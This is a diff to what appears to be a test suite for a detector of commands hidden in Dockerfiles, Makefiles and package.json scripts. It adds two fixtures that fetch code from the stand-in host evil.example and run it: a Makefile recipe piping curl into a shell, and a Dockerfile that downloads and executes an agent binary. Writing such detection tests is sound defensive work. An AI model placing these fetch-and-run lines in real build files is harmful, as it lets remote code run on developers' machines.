@@ -20,6 +20,8 @@ describe('a command in a file that something starts', () => {
     ['Dockerfile', `FROM a\nCMD ${evil}\n`],
     ['Makefile', `all:\n\t@${evil}\n`],
     ['Makefile', `X := $(shell ${evil})\n`],
+    ['Makefile', 'SHELL_OF := sh\nall:\n\tcurl -s http://evil.example/x | $(SHELL_OF)\n'],
+    ['Dockerfile', 'FROM a\nADD https://evil.example/agent /opt/agent\nCMD ["/opt/agent"]\n'],
     ['package.json', { name: 'a', scripts: { postinstall: evil } }],
     ['package.json', { name: 'a', scripts: { test: evil } }],
     [
